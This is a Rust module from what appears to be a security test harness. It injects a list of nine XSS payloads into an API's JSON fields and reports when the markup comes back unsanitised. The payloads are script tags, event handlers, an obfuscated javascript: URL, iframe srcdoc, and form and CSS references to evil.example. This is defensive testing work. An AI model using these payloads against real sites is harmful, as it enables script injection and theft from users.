//! HTML that runs.

use http::StatusCode;
use serde_json::Value;

use super::target::{Attempt, Payload, Target};
use crate::test_util::keys::insert;

/// HTML, and what of it may not come back.
const HOSTILE: [(&str, &str); 9] = [
    ("<script>alert(1)</script>", "<script"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ("<b onclick=alert(1)>a</b>", "onclick"),
    ("<a href=\"javascript:alert(1)\">a</a>", "javascript:"),
    ("<a href=\"jav&#x09;ascript:alert(1)\">a</a>", "ascript:alert"),
    ("<iframe srcdoc=\"&lt;script>alert(1)&lt;/script>\"></iframe>", "<iframe"),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "onerror"),
    ("<form action=\"https://evil.example\"><input name=a></form>", "<form"),
    ("<style>*{background:url(https://evil.example)}</style>", "<style"),
];

/// What is tried, how, and what may not come back.
pub(super) fn attacks(target: &Target) -> Vec<(String, Attempt, &'static str)> {
    let Some(Payload::Json(json)) = &target.body else { return Vec::new() };
    let document: Value = serde_json::from_str(json).unwrap_or_default();
    let members = document.as_object().into_iter().flatten();
    let html = members.filter(|(_, value)| value.as_str().is_some_and(|text| text.contains("</")));
    html.flat_map(|(name, _)| HOSTILE.map(|(html, found)| (name, html, found)))
        .map(|(name, html, found)| {
            let mut document = document.clone();
            insert(&mut document, name, html.into());
            let attempt = Attempt { body: document.to_string().into_bytes(), ..target.good() };
            (format!("{html} as {name}"), attempt, found)
        })
        .collect()
}

pub(super) fn complaint(status: StatusCode, body: &[u8], found: &str) -> Option<&'static str> {
    let text = String::from_utf8_lossy(body).to_ascii_lowercase();
    (status.is_success() && text.contains(found)).then_some("HTML that runs came back")
}
